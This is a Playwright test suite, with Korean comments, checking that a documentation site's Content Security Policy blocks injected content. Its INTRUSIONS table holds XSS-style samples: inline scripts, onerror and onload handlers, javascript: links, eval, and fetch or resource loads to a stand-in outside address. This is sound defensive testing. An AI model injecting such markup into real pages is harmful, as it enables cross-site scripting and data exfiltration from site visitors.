"""닫힌 사이트: 보안 정책이 독자의 어떤 손길에도 걸리지 않고, 끼워 넣은 것은 모두 막습니다."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import pytest
from inspection import WATCH, Inspector, know_the_address, places, violations
from live import PLACES, TRAINER, Live
from playwright.sync_api import Browser, Error, Page, Route, expect

from gan_docs.site.html import security

SCROLL = """async () => {
  for (let y = 0; y < document.body.scrollHeight; y += innerHeight) {
    scrollTo(0, y);
    await new Promise(requestAnimationFrame);
  }
}"""
# 옮긴 클래스를 다시 style 속성으로 되돌린 모습과 견주어, 자리가 달라진 요소의 수
SHIFTED = """(styles) => {
  const moved = [...document.querySelectorAll("[class*=moved-]")];
  const places = () => moved.map((element) => {
    const { x, y, width, height } = element.getBoundingClientRect();
    return [x, y, width, height, getComputedStyle(element).textAlign].join();
  });
  const before = places();
  for (const element of moved) {
    const name = [...element.classList].find((name) => name.startsWith("moved-"));
    element.classList.remove(name);
    element.style.cssText = styles[name] ?? "";
  }
  const after = places();
  return [moved.length, before.filter((place, index) => place !== after[index]).length];
}"""
HAPPENED = """() => Boolean(
  window.planted ||
  getComputedStyle(document.querySelector("h1")).color === "rgb(1, 2, 3)" ||
  [...document.querySelectorAll("p")].some((one) => getComputedStyle(one).position === "fixed")
)"""
OUTSIDE = "http://192.0.2.1/"
PLANT = "window.planted = true"
HERE = "categories/"


class Intrusion(NamedTuple):
    """끼워 넣을 것: 쪽에 심을 글, 쪽에서 부를 글, 막아야 할 지시문."""

    directive: str
    markup: str = ""
    action: str = ""


INTRUSIONS = {
    "인라인 스크립트": Intrusion("script-src-elem", f"<script>{PLANT}</script>"),
    "인라인 모듈": Intrusion("script-src-elem", f'<script type="module">{PLANT}</script>'),
    "바깥의 스크립트": Intrusion("script-src-elem", f'<script src="{OUTSIDE}x.js"></script>'),
    "사건 속성": Intrusion("script-src-attr", f'<img src="data:," alt="" onerror="{PLANT}">'),
    "SVG의 사건 속성": Intrusion("script-src-attr", f'<svg onload="{PLANT}"></svg>'),
    "스크립트 주소": Intrusion(
        "script-src-elem",
        f'<a id="seed" href="javascript:{PLANT};void 0">x</a>',
        "document.querySelector('#seed').click()",
    ),
    "eval": Intrusion("script-src", action=f"setTimeout(() => eval('{PLANT}'))"),
    "글로 부르는 타이머": Intrusion("script-src", action=f"setTimeout('{PLANT}')"),
    "바깥의 그림": Intrusion("img-src", f'<img src="{OUTSIDE}x.png" alt="x">'),
    "바깥으로 보내기": Intrusion(
        "connect-src", action=f"fetch('{OUTSIDE}', {{ mode: 'no-cors' }}).catch(() => {{}})"
    ),
    "바깥의 스타일": Intrusion("style-src-elem", f'<link rel="stylesheet" href="{OUTSIDE}x.css">'),
    "바깥의 글꼴": Intrusion(
        "font-src", action=f"new FontFace('x', 'url({OUTSIDE}x.woff2)').load().catch(() => {{}})"
    ),
    "바깥의 소리": Intrusion("media-src", f'<audio src="{OUTSIDE}x.mp3" preload="auto"></audio>'),
    "끼운 쪽": Intrusion("frame-src", f'<iframe src="{OUTSIDE}"></iframe>'),
    "플러그인": Intrusion("object-src", f'<object data="{OUTSIDE}" type="text/html"></object>'),
    "바깥의 양식": Intrusion(
        "form-action",
        f'<form id="seed" action="{OUTSIDE}" method="post"></form>',
        "document.querySelector('#seed').submit()",
    ),
    "주소의 기준": Intrusion("base-uri", f'<base href="{OUTSIDE}">'),
    "다른 곳의 일꾼": Intrusion(
        "worker-src",
        action=f"new Worker(URL.createObjectURL(new Blob(['fetch(\"{OUTSIDE}\")'])))",
    ),
    "스타일": Intrusion("style-src-elem", "<style>h1 { color: rgb(1, 2, 3) !important }</style>"),
    "스타일 속성": Intrusion("style-src-attr", '<p style="position: fixed">x</p>'),
}


@pytest.fixture
def watched(open_tab: Callable[..., Page]) -> Page:
    page = open_tab()
    page.add_init_script(WATCH)
    return page


def test_no_page_breaks_the_policy(watched: Page, address: str, built_site: Path) -> None:
    visited, broken = places(built_site), {}
    assert len(visited) > 30 and "404.html" in visited
    for place in visited:
        watched.goto(address + place)
        watched.evaluate(SCROLL)
        if found := violations(watched):
            broken[place] = found
    assert not broken


def test_turning_every_page_breaks_nothing(watched: Page, address: str, built_site: Path) -> None:
    know_the_address(watched, address, built_site)
    watched.goto(address)
    watched.evaluate("window.neverReloaded = true")
    turned = 0
    while (following := watched.locator("a.page-turn__link--next")).count():
        title = following.locator(".page-turn__title").inner_text()
        following.click()
        expect(watched).to_have_title(f"{title} - GAN은")
        turned += 1
    assert turned > 30 and watched.evaluate("window.neverReloaded")
    assert watched.locator("meta[http-equiv]").count() == 1
    assert violations(watched) == []


def test_searching_copying_and_switching_break_nothing(browser: Browser, address: str) -> None:
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    page = context.new_page()
    page.add_init_script(WATCH)
    page.goto(address + "build/")
    page.locator("label[title='어두운 화면으로']").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    page.locator(".md-code__button[data-md-type=copy]").locator("visible=true").first.click()
    expect(page.locator(".md-dialog")).to_have_class("md-dialog md-dialog--active")
    page.locator(".md-search__input").click()
    page.keyboard.type("판별기", delay=20)
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile(r"/\?h="))
    page.emulate_media(media="print")
    page.pdf()
    assert violations(page) == []
    context.close()


@pytest.mark.parametrize("tag", PLACES)
def test_an_open_element_breaks_nothing(watched: Page, address: str, tag: str) -> None:
    watched.goto(address + PLACES[tag])
    live = Live(watched, tag).start()
    if tag == TRAINER:
        live.button("시작").click()
        live.wait_steps(5)
        live.button("PyTorch와 같은지 확인").click()
        live.says("같습니다")
    assert violations(watched) == []


def test_moved_styles_keep_every_place(watched: Page, address: str, built_site: Path) -> None:
    rules = (built_site / security.STYLESHEET).read_text("utf-8").splitlines()
    styles = dict(rule.removeprefix(".").removesuffix("}").split("{") for rule in rules)
    bare = {name: text.replace("!important", "") for name, text in styles.items()}
    counts = {}
    for place in places(built_site):
        watched.goto(address + place)
        counts[place], shifted = watched.evaluate(SHIFTED, bare)
        assert shifted == 0, place
    assert sum(counts.values()) > 1000
    watched.goto(address + max(counts, key=lambda place: counts[place]))
    assert watched.evaluate(SHIFTED, {})[1] > 0  # 옮긴 것이 사라지면 자리가 달라짐


@pytest.mark.parametrize("name", INTRUSIONS)
def test_an_intrusion_is_stopped(watched: Page, address: str, name: str) -> None:
    intrusion = INTRUSIONS[name]
    reached = intrude(watched, address, intrusion)
    watched.wait_for_function(
        "(directive) => window.violations?.some((one) => one.startsWith(directive))",
        arg=intrusion.directive,
    )
    assert not happened(watched, reached)


@pytest.mark.parametrize("name", INTRUSIONS)
def test_without_the_policy_the_intrusion_succeeds(watched: Page, address: str, name: str) -> None:
    reached = intrude(watched, address, INTRUSIONS[name], closed=False)
    for _ in range(100):
        if happened(watched, reached):
            return
        watched.wait_for_timeout(50)
    pytest.fail(f"정책이 없어도 일어나지 않아, 막았다고 말할 수 없습니다: {name}")


def test_a_stale_hash_is_seen(inspect: Callable[..., Inspector], address: str) -> None:
    inspector = inspect()
    assert inspector.visit("style/") == []

    def edited(route: Route) -> None:
        response = route.fetch()
        body = response.text().replace("__md_hash=e=>", "__md_hash= e=>", 1)
        assert body != response.text()
        route.fulfill(response=response, body=body)

    inspector.page.route(f"{address}style/", edited)
    flaws = inspector.visit("style/")
    assert any("Content Security Policy" in flaw for flaw in flaws), flaws


def intrude(page: Page, address: str, intrusion: Intrusion, closed: bool = True) -> list[str]:
    """쪽에 심고 부릅니다. 바깥에 닿은 요청을 모을 목록을 돌려줍니다."""
    reached: list[str] = []

    def answer(route: Route) -> None:
        reached.append(route.request.url)
        route.fulfill(body="", headers={"access-control-allow-origin": "*"})

    def planted(route: Route) -> None:
        response = route.fetch()
        body = response.text()
        if not closed:
            body = body.replace('http-equiv="Content-Security-Policy"', 'name="open"')
        place = "</title>" if "<base" in intrusion.markup else "</article>"
        assert body.count(place) == 1
        body = body.replace(place, f"{place}{intrusion.markup}")
        route.fulfill(response=response, body=body)

    page.context.route(f"{OUTSIDE}**", answer)
    page.route(address + HERE, planted)
    page.goto(address + HERE, wait_until="domcontentloaded")
    page.evaluate(f"() => {{ {intrusion.action} }}")
    return reached


def happened(page: Page, reached: list[str]) -> bool:
    """끼워 넣은 것이 무언가를 해냈는지 봅니다."""
    try:
        return bool(reached) or page.evaluate(HAPPENED)
    except Error:  # 다른 쪽으로 떠나는 중
        return bool(reached)
